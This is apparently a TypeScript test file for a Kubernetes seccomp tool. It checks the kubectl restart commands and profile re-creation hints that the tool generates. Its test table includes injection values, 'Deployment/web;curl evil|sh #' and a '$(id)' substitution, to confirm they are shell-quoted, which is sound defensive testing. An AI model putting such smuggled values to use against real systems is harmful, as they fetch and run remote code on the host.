import { test } from 'tap'
import { instance, profileOf } from '../../../helpers/instances.js'
import { apiVersion } from '../../../../src/api/names.js'
import type { SeccompProfile } from '../../../../src/api/seccomp-profile.js'
import {
  restartAfterDeletion,
  restartCommand
} from '../../../../webhook/confinement/containers/restart-command.js'
import { view } from '../../../helpers/hub-answers.js'

test('the command that restarts a container, with names that its author chose', (t) => {
  // [workload, pod, command]
  const table: [string, string, string][] = [
    ['Deployment/web', 'web-1', 'kubectl rollout restart -n shop deployment/web'],
    ['StatefulSet/db', 'db-0', 'kubectl rollout restart -n shop statefulset/db'],
    ['DaemonSet/log', 'log-x', 'kubectl rollout restart -n shop daemonset/log'],
    ['ReplicaSet/web', 'web-1', 'kubectl delete pod -n shop web-1'],
    ['Rollout/web', 'web-1', 'kubectl delete pod -n shop web-1'],
    ['Job/once', 'once-1', 'kubectl delete pod -n shop once-1'],
    ['CronJob/nightly', 'nightly-1-x', 'kubectl delete pod -n shop nightly-1-x'],
    ['Pod/bare', 'bare', 'kubectl delete pod -n shop bare'],
    [
      'Deployment/web;curl evil|sh #',
      'web-1',
      "kubectl rollout restart -n shop 'deployment/web;curl evil|sh #'"
    ],
    [
      "Deployment/a'$(id)'",
      'web-1',
      "kubectl rollout restart -n shop 'deployment/a'\\''$(id)'\\'''"
    ],
    ['--kubeconfig=x/web', 'web-1', 'kubectl delete pod -n shop web-1']
  ]
  for (const [workload, pod, command] of table)
    t.equal(restartCommand({ ...view('n1', 'app', { workload, pod }), namespace: 'shop' }), command)
  const plain = view('n1', 'app', { pod: '', id: 'web' })
  const again = 'create web again with the filter of its profile (secco get profiles -A lists them)'
  t.equal(restartCommand(plain), again)
  const profileWith = (spec: SeccompProfile['spec']): SeccompProfile => ({
    ...{ apiVersion, kind: 'SeccompProfile', metadata: { namespace: 'default', name: 'web' } },
    spec
  })
  const exported = (mode: string) =>
    `create web again with the filter that \`secco profile export default/web --mode ${mode}\` prints`
  const revision = `sha256:${'e'.repeat(64)}`
  const none = undefined
  // [what, the state of the container, the ladder of its profile, the mode of its rule, how]
  const files = [
    ['it keeps its mode', 'audit', none, none, exported('audit')],
    ['it keeps its mode', 'enforced', none, none, exported('enforce')],
    ['a rule has a mode', 'enforced', none, 'audit', exported('audit')],
    ['a rule has a mode', 'unconfined', none, 'audit', exported('audit')],
    ['a rule has a mode', 'audit', none, 'audit', exported('audit')],
    ['its profile has a mode', 'enforced', { mode: 'audit' }, 'enforce', exported('audit')],
    ['without a filter', 'unconfined', { mode: 'audit' }, none, exported('audit')],
    [
      ...(['a pin', 'enforced', { mode: 'enforce', revision }, none] as const),
      `create web again with the filter that \`secco profile export default/web --revision sha256:${'e'.repeat(16)}\` prints`
    ]
  ] as const
  for (const [what, state, ladder, ruleMode, how] of files) {
    const profile = profileWith(ladder === undefined ? {} : { ladder })
    t.equal(restartCommand({ ...plain, state }, { profile, ruleMode }), how, `${what}: ${state}`)
  }
  const { status } = profileOf({}, { instances: [instance(0, ['read'], { complete: false })] })
  const unseen: SeccompProfile = { ...profileWith({}), ...(status && { status }) }
  // [the state of the container, the mode of its rule, how, where no start was recorded]
  const risky = [
    ['enforced', none, exported('enforce --force')],
    ['enforced', 'enforce', exported('enforce')],
    ['audit', none, exported('audit')],
    ['unconfined', none, exported('audit')]
  ] as const
  for (const [state, ruleMode, how] of risky)
    t.equal(restartCommand({ ...plain, state }, { profile: unseen, ruleMode }), how, state)
  t.end()
})

test('a restart under the name of a deleted profile', (t) => {
  const plain = view('n1', 'web', { pod: '', id: 'web' })
  const pod = view('n1', 'web', { pod: 'web-1', workload: 'Deployment/web' })
  const again = (spec: SeccompProfile['spec']): SeccompProfile => ({
    ...{ apiVersion, kind: 'SeccompProfile', metadata: { namespace: 'default', name: 'web' } },
    spec
  })
  const approved = again({ seccomp: { defaultAction: 'SCMP_ACT_ERRNO' } })
  const ofRevision =
    'create web again with the filter that `secco profile export default/web --mode enforce` prints'
  const first = 'secco profile approve default/web (nothing is approved in the new one yet), then '
  // [what, the container, the profile of the name, how]
  const table: [string, typeof plain, SeccompProfile | undefined, string][] = [
    ['none', plain, undefined, 'create web again without that file'],
    ['it only learns', plain, again({}), `${first}${ofRevision}`],
    ['it is built on nothing', plain, again({ extends: [] }), `${first}${ofRevision}`],
    ['it is approved', plain, approved, ofRevision],
    ['a rule decides', pod, again({}), restartCommand(pod)],
    ['a rule decides, and there is none', pod, undefined, restartCommand(pod)]
  ]
  for (const [what, container, now, how] of table) {
    const given = now === undefined ? undefined : { profile: now, ruleMode: undefined }
    t.equal(restartAfterDeletion(container, 'default/web', given), how, what)
  }
  t.end()
})
